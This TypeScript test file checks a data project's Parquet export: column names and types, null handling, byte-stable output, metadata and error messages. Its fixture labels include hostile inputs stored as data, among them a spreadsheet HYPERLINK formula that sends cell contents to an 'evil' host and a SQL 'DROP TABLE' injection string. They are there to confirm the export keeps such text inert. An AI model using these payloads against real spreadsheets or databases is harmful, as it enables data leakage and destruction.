/**
 * The Parquet download of a dataset, read back with DuckDB: exact column
 * names and types, every value as written, and the same bytes every time.
 */
import { mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import { afterAll, describe, expect, it } from 'vitest';
import type { CellValue } from '../../../../src/lib/data/columns.ts';
import { datasetParquet } from '../../../../src/lib/data/downloads/dataset-parquet.ts';
import { makeDataset } from '../../aggregate/make-dataset.ts';

const temp = mkdtempSync(join(tmpdir(), 'trendbook-parquet-test-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

const LABELS = [
  '=HYPERLINK("http://evil/?"&A1,"Click")',
  "'); DROP TABLE rows; --",
  '</script>&<>"',
  'right\u202Eleft',
  'nul\u0000byte',
  'line one\r\nline two',
];

const dataset = makeDataset(
  'engagement',
  [
    { name: 'year', type: 'year' },
    { name: 'tier', type: 'category' },
    { name: 'engagement_rate', type: 'percent' },
    { name: 'share', type: 'fraction' },
    { name: 'published', type: 'date' },
    { name: 'quarter', type: 'date' },
    { name: 'basis', type: 'category' },
    { name: 'Label "quoted" ', type: 'category' },
  ],
  LABELS.map((label, index): CellValue[] => [
    2020 + index,
    index % 2 === 0 ? 'micro' : 'mega',
    index === 1 ? null : 2.4 + index,
    0.024,
    index === 1 ? null : `2024-04-0${index + 1}`,
    `2024-Q${(index % 4) + 1}`,
    index === 3 ? 'illustrative' : 'reported',
    label,
  ]),
);

/** Writes the file and reads it back with a DuckDB of its own: names, types and rows. */
async function readBack(bytes: Uint8Array, name: string) {
  const file = join(temp, `${name}.parquet`);
  writeFileSync(file, bytes);
  const instance = await DuckDBInstance.create(':memory:');
  try {
    const connection = await instance.connect();
    try {
      const reader = await connection.runAndReadAll(`SELECT * FROM read_parquet('${file}')`);
      const metadata = await connection.runAndReadAll(
        `SELECT created_by, num_rows, num_row_groups FROM parquet_file_metadata('${file}')`,
      );
      const keyValues = await connection.runAndReadAll(
        `SELECT decode(key) AS key, decode(value) AS value FROM parquet_kv_metadata('${file}')`,
      );
      return {
        names: reader.columnNames(),
        types: reader.columnTypes().map(String),
        rows: reader.getRowsJson(),
        metadata: metadata.getRowObjectsJson(),
        keyValues: keyValues.getRowObjectsJson(),
      };
    } finally {
      connection.closeSync();
    }
  } finally {
    instance.closeSync();
  }
}

describe('the Parquet download of a dataset', () => {
  it('keeps every column’s exact name, typed DOUBLE, DATE or VARCHAR', async () => {
    const read = await readBack(await datasetParquet(dataset), 'types');
    expect(read.names).toEqual([
      'year',
      'tier',
      'engagement_rate',
      'share',
      'published',
      'quarter',
      'basis',
      'Label "quoted" ',
    ]);
    expect(read.types).toEqual(['DOUBLE', 'VARCHAR', 'DOUBLE', 'DOUBLE', 'DATE', 'VARCHAR', 'VARCHAR', 'VARCHAR']);
  });

  it('holds every value as written: percent values unmultiplied, NULL for missing, text as data', async () => {
    const read = await readBack(await datasetParquet(dataset), 'values');
    expect(read.rows).toEqual([
      [2020, 'micro', 2.4, 0.024, '2024-04-01', '2024-Q1', 'reported', '=HYPERLINK("http://evil/?"&A1,"Click")'],
      [2021, 'mega', null, 0.024, null, '2024-Q2', 'reported', "'); DROP TABLE rows; --"],
      [2022, 'micro', 4.4, 0.024, '2024-04-03', '2024-Q3', 'reported', '</script>&<>"'],
      [2023, 'mega', 5.4, 0.024, '2024-04-04', '2024-Q4', 'illustrative', 'right\u202Eleft'],
      [2024, 'micro', 6.4, 0.024, '2024-04-05', '2024-Q1', 'reported', 'nul\u0000byte'],
      [2025, 'mega', 7.4, 0.024, '2024-04-06', '2024-Q2', 'reported', 'line one\r\nline two'],
    ]);
  });

  it('gives the same bytes every time, naming only the pinned DuckDB and no date', async () => {
    const first = Buffer.from(await datasetParquet(dataset));
    await new Promise((resolve) => setTimeout(resolve, 1100));
    const second = Buffer.from(await datasetParquet(dataset));
    expect(second.equals(first)).toBe(true);
    expect(first.subarray(0, 4).toString('latin1')).toBe('PAR1');
    const read = await readBack(first, 'metadata');
    expect(read.metadata).toEqual([
      { created_by: 'DuckDB version v1.5.6 (build 069cc9f9b5)', num_rows: '6', num_row_groups: '1' },
    ]);
    expect(read.keyValues.map((entry) => entry.key)).toEqual(['title', 'licence', 'sources', 'columns']);
  });

  it('says what it is wherever it travels: title, licence, sources, notes and column labels in its metadata', async () => {
    const described = makeDataset(
      'described',
      [
        { name: 'year', type: 'year' },
        { name: 'rate', type: 'percent', label: 'Engagement rate' },
      ],
      [[2024, 2.4]],
      {
        meta: {
          title: "Engagement 'by' tier",
          description: "Median rate; it's illustrative",
          sources: [
            {
              id: 'hub',
              title: 'Benchmark Report',
              publisher: 'Example Hub',
              year: 2024,
              url: 'https://example.com/r',
            },
            { id: 'second', title: 'Second\u0000source' },
          ],
          notes: ['First note', "'); DROP TABLE rows; --"],
          columns: { rate: { description: 'Per post' } },
        },
      },
    );
    const read = await readBack(await datasetParquet(described, { licence: 'CC BY 4.0' }), 'described');
    expect(Object.fromEntries(read.keyValues.map((entry) => [entry.key, entry.value]))).toEqual({
      title: "Engagement 'by' tier",
      description: "Median rate; it's illustrative",
      licence: 'CC BY 4.0',
      sources: 'Benchmark Report, Example Hub, 2024, https://example.com/r\nSecond\uFFFDsource',
      notes: "First note\n'); DROP TABLE rows; --",
      columns: JSON.stringify([
        { name: 'year', label: 'Year' },
        { name: 'rate', label: 'Engagement rate', unit: '%', description: 'Per post' },
      ]),
    });
    expect(read.rows).toEqual([[2024, 2.4]]);
  });

  it('leaves no temporary folder behind', async () => {
    const folders = () =>
      readdirSync(tmpdir()).filter(
        (entry) => entry.startsWith('trendbook-parquet-') && !entry.startsWith('trendbook-parquet-test-'),
      );
    const before = folders();
    await datasetParquet(dataset);
    expect(folders()).toEqual(before);
  });

  it('refuses columns whose names differ only in case, which DuckDB would rename, naming both', async () => {
    const clash = makeDataset(
      'clash',
      [
        { name: 'Year', type: 'year' },
        { name: 'year', type: 'year' },
      ],
      [[2024, 2025]],
    );
    await expect(datasetParquet(clash)).rejects.toThrow(
      'data/clash.csv: the columns "Year" and "year" differ only in case, which Parquet readers such as DuckDB cannot tell apart, so the Parquet download cannot keep both names. Rename one of them.',
    );
  });

  it('refuses a number column holding text, naming where', async () => {
    const text = makeDataset('mixed', [{ name: 'value', type: 'number' }], [[1], ['many']]);
    await expect(datasetParquet(text)).rejects.toThrow(
      'parquet: mixed, row 2: column "value" holds the text "many" where a number belongs',
    );
  });
});
